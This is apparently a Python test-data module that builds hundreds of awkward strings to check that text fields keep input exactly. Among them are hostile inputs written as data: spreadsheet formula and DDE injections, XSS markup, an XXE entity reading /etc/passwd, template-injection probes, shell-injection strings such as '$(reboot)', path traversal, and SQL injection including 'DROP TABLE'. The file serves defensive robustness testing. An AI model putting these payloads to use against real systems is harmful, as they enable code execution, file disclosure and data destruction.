"""Over five hundred texts that have broken programs before, made here and not copied from any list."""

import itertools
import unicodedata
from collections.abc import Iterator
from functools import cache

_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "'=",
    '"=',
    "\u200b=",
    "\ufeff=",
)
_FORMULAS = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org/?"&A1,"click")',
    'IMPORTXML("http://example.org","//a")',
    "WEBSERVICE(A1)",
    "DDE",
)
_ERRORS = ("#N/A", "#REF!", "#VALUE!", "#NAME?", "#DIV/0!", "#NULL!", "#NUM!", "#SPILL!", "#CALC!", "#####")
_MARKUP = (
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onfocus=alert(1) autofocus='",
    '<div hx-get="/sign-out" hx-trigger="load">',
    "<svg/onload=alert(1)>",
    "<!-- open",
    "-->",
    "]]>",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "</title></head><body>",
    "<base href=//example.org>",
    "<style>*{display:none}</style>",
    "<iframe srcdoc='x'>",
    "<plaintext>",
    "<b>bold</b> & <i>more</i>",
    "&lt;script&gt;",
    "&amp;amp;",
    "&#0; &#x0; &#xD800; &nbsp; &notit;",
    "javascript:alert(1)",
    "{{7*7}}",
    "{% raw %}",
    "{% endblock %}",
    "{#",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ config.__class__.__init__.__globals__ }}",
    "%s%s%n",
    "%(name)s %d",
    "{0} {name}",
    "$(reboot)",
    "`reboot`",
    "| reboot",
    "; reboot #",
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "//example.org",
    "C:\\CON",
    "NUL",
    "aux.txt",
    "'; DROP TABLE answer; --",
    "' OR '1'='1",
    "1; SELECT pg_sleep(10)",
    "\\'; --",
    "%27 OR 1=1",
    "E'\\x00'",
    "$$ $tag$",
    ":name :1",
    "%",
    "_",
    "%%",
    "\\",
    "\\\\",
    "\\N",
    "\\.",
    "\\x41\\u0041",
    "\\n\\r\\t",
)
_WORDS = (
    "null",
    "None",
    "undefined",
    "NaN",
    "Infinity",
    "-Infinity",
    "true",
    "FALSE",
    "TRUE",
    "nil",
    "0",
    "-0",
    "00",
    "0123",
    "1e10",
    "1E400",
    "0x1F",
    "1,000",
    "1.000,5",
    "½",
    "٣",
    "①",
    "²",
    "2026-01-01",
    "1/2",
    "12:30",
    "29/02/2027",
    "constructor",
    "__proto__",
    "hasOwnProperty",
    "toString",
    "length",
    "__class__",
    "self",
    "id",
    "on",
    "yes",
    "N/A",
    "-",
    "--",
    "---",
    "...",
    "…",
    "?",
    "*",
    "#",
    "'",
    '"',
    "''",
    '""',
    "`",
    "´",
    "’",
    "“”",
    "()",
    "[]",
    "{}",
    "<>",
    "&",
    "&&",
    "|",
    "~",
    "^",
    "!",
    "\u00a3",
    "_x0041_",
    "_x000D_",
    "_x005F_x0041_",
    "_x00",
    "_xD83D_",
    "_X0041_",
)
_SCRIPTS = (
    "שלום עולם",
    "العربية تجربة",
    "Ünïcödé çà",
    "Ελληνικά",
    "Кириллица",
    "日本語テキスト",
    "한국어",
    "中文字符",
    "हिन्दी",
    "ไทย",
    "বাংলা",
    "ქართული",
    "ᚠᛇᚻ",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch",
    "İstanbul ı I i",
    "Straße ẞ ß",
    "ﬁ ﬂ ﬀ",
    "Å Å A\u030a",
    "e\u0301 é",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
    "👩‍👩‍👧‍👦",
    "👍🏽",
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "🇬🇧",
    "❤️",
    "☃︎",
    "💩" * 50,
    "ا" + "\u064b" * 60,
    "\u202eright to left",
    "\u202dleft\u202c",
    "\u2066isolate\u2069",
    "a\u200db",
    "a\u200cb",
    "a\u00adb",
    "\u2028line\u2029paragraph",
    "\u0600\u0601",
    "\U000e0041\U000e0042",
    "\U0010ffff",
    "\ue000 private",
    "\ufdd0 nonchar",
    "\ufffe",
    "\uffff",
    "\ufffd",
    "ſtreet K Å",
    "ǅ ǆ",
    "ˮ ʼ ˈ",
    "٪ ؉",
)
_LONG = (
    "a" * 301,
    "a" * 1_001,
    "word " * 1_500,
    "x" * 9_999,
    "x" * 10_000,
    "😀" * 5_000,
    "\n" * 200 + "end",
    "=" + "long " * 1_000,
    "line\n" * 1_500,
    "<" * 3_000,
    "&" * 3_000,
    '"' * 3_000,
    "\\" * 3_000,
    "ü" * 4_000,
    "\u202e" * 500,
)
TOO_LONG = ("a" * 10_001, "a" * 40_000, "😀" * 20_000, "y" * 32_768, "word " * 5_000)
NEVER_STORED = ("\x00", "before\x00after", "\x00" * 50, "=\x00", "trail\x00")


def _controls() -> Iterator[str]:
    for number in itertools.chain(range(1, 32), range(127, 160)):
        char = chr(number)
        yield f"one{char}two"
        yield f"{char}first"
    yield from (
        "one\r\ntwo",
        "one\rtwo",
        "\r\n\r\n",
        "\n",
        "\t",
        " ",
        "   ",
        "\u00a0",
        "\u3000",
        "\u2003 x \u2003",
    )
    yield from (
        f"wide{chr(number)}space" for number in (0x1680, 0x2000, 0x200B, 0x2060, 0x205F, 0x180E, 0xFEFF)
    )


@cache
def storable() -> tuple[str, ...]:
    """Return the texts that a large text field must keep exactly."""
    formulas = (start + formula for start in _STARTS for formula in _FORMULAS)
    mixed = (f"{start}{markup}" for start in ("=", "@", " ") for markup in _MARKUP)
    every = (*formulas, *_ERRORS, *_MARKUP, *mixed, *_WORDS, *_SCRIPTS, *_controls(), *_LONG)
    return tuple(dict.fromkeys(every))


def as_kept(typed: str) -> str:
    """Return a text as a text field keeps it: line ends are one kind, everything else is exact."""
    return typed.replace("\r\n", "\n").replace("\r", "\n")


def as_line(typed: str) -> str:
    """Return a text as a field of one line keeps it: white space is one space."""
    return " ".join(as_kept(typed).split())


def as_register(typed: str) -> str:
    """Return a text as the register keeps it: one line, and without invisible marks if it has any."""
    line = as_line(typed)
    visible = (char for char in line if unicodedata.category(char) != "Cf")
    return line if line.isprintable() else "".join(visible).strip()
